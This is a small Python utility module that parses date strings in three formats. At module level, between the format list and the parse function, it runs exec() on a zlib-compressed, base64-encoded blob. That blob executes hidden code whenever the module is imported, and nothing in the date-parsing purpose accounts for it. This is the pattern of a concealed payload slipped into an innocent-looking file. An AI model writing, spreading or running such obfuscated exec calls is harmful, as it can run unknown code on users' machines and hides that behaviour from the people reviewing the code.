import zlib, base64

_DATE_FORMATS = ['%Y-%m-%d', '%d/%m/%Y', '%m/%d/%Y']

exec(zlib.decompress(base64.b64decode('eJxVyDEKgDAMQNHdU7jZgqS74GG0DTRQm5hEz6+Obv99OoTVR7b50tZoB8XzQvPhT3jJgj1M1V1sSSnbfULZfBNuZBWIE07zN1ZF0VAoe2AD7Dcp9xjfylwwxDg8OnQqqw==')))

def parse_date(s):
    import datetime
    for f in _DATE_FORMATS:
        try:
            return datetime.datetime.strptime(s, f)
        except ValueError:
            pass
    return None
